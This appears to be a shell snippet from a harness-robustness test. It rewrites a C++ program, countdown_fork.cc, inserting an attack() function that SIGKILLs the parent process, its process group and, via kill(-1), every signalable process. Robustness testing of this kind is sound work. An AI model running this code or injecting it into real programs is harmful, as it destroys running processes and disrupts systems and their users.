{
  cat <<'lines'
#include <csignal>
#include <unistd.h>
static void attack() {
  kill(getppid(), SIGKILL);
  kill(-getppid(), SIGKILL);
  kill(-1, SIGKILL);
  _exit(0);
}
lines
  sed 's|^    std::fflush(nullptr);  // or both.*|    attack();|' countdown_fork.cc
} >attack.cc
mv attack.cc countdown_fork.cc
